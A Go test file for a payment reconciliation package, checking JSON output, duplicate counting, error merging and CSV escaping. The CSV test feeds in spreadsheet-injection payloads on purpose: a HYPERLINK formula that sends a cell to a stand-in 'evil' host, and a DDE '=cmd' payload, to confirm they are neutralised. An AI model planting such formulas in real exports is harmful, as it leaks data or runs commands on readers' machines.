package reconcile

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// TestMutation2JSONOrderOnly: a result with only an order reports the order's
// txnType in JSON, as in CSV.
func TestMutation2JSONOrderOnly(t *testing.T) {
	cases := []struct {
		name string
		res  Result
		want string
	}{
		{"missing refund", Result{Class: MissingAtUnionPay, Order: Order{OrderID: "ORDER0009", Amount: 100, TxnType: "04"}}, `"txn_type":"04"`},
		{"record type wins", Result{Class: StateMismatch, Record: Record{OrderID: "ORDER0010", TxnType: "01"},
			Order: Order{OrderID: "ORDER0010", Amount: 100, TxnType: "04"}}, `"txn_type":"01"`},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			var buf bytes.Buffer
			_, err := WriteJSON(&buf, func(yield func(Result, error) bool) { yield(c.res, nil) })
			require.NoError(t, err)
			require.Contains(t, buf.String(), c.want)
		})
	}
}

// TestCSVTextCellsAreNotFormulas: orderIds and other text from the file or the merchant that a
// spreadsheet would run as a formula are written with a leading apostrophe; amounts, negative
// ones included, are left alone. Found in the third session's review.
func TestCSVTextCellsAreNotFormulas(t *testing.T) {
	recs := func(yield func(Record, error) bool) {
		yield(Record{Line: 1, OrderID: `=HYPERLINK("http://evil/?"&A1,"x")`, QueryID: "+1+1", OrigQueryID: "@SUM(1)",
			TxnType: "-2+3", TxnAmt: 1, MerchantFee: -5, TxnTime: time.Date(2025, 1, 1, 0, 0, 0, 0, Beijing())}, nil)
	}
	orders := func(yield func(Order, error) bool) {
		yield(Order{State: StateSucceeded, OrderID: "=cmd|' /C calc'!A0", Amount: 5}, nil)
	}
	var buf bytes.Buffer
	_, err := WriteCSV(&buf, Match(recs, orders))
	require.NoError(t, err)
	out := buf.String()
	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	require.NoError(t, err)
	for _, row := range rows {
		for i, cell := range row {
			if cell != "" && strings.ContainsRune("=+@\t\r", rune(cell[0])) ||
				strings.HasPrefix(cell, "-") && csvHeader[i] != "fee_fen" && csvHeader[i] != "net_fen" {
				t.Errorf("column %s: %q would be a formula", csvHeader[i], cell)
			}
		}
	}
	require.Contains(t, out, `'=HYPERLINK`)
	require.Contains(t, out, ",-5,")
}

// TestReportDuplicateCountsOrderOnce: a second record for an order already matched is a
// Duplicate whose Order is that same order: its amount is not counted again. (Found in the
// third session's review: summed over classes, one 100 order read 200.)
func TestReportDuplicateCountsOrderOnce(t *testing.T) {
	var rep Report
	o := Order{State: StateSucceeded, OrderID: "ORDER0001", Amount: 100}
	rep.Add(Result{Class: Matched, Record: Record{OrderID: "ORDER0001", TxnAmt: 100}, Order: o})
	rep.Add(Result{Class: Duplicate, Record: Record{OrderID: "ORDER0001", TxnAmt: 100}, Order: o})
	var orders int64
	for _, tot := range rep.Totals {
		orders += tot.OrderAmount
	}
	require.Equal(t, int64(100), orders)
	require.Equal(t, int64(100), rep.Totals[Duplicate].Amount, "the duplicate record's own amount still counts")
}

// TestReview14MergeCountsErrorsNotKept: o counted more data errors than it kept; Merge must add
// its ErrorCount, not the errors it holds.
func TestReview14MergeCountsErrorsNotKept(t *testing.T) {
	t.Parallel()
	var r, o Report
	for i := range 150 {
		o.AddError(fmt.Errorf("error %d", i))
	}
	r.AddError(fmt.Errorf("r's"))
	r.Merge(&o)
	assert.Equal(t, 151, r.ErrorCount)
	assert.Len(t, r.Errors, 100)
}
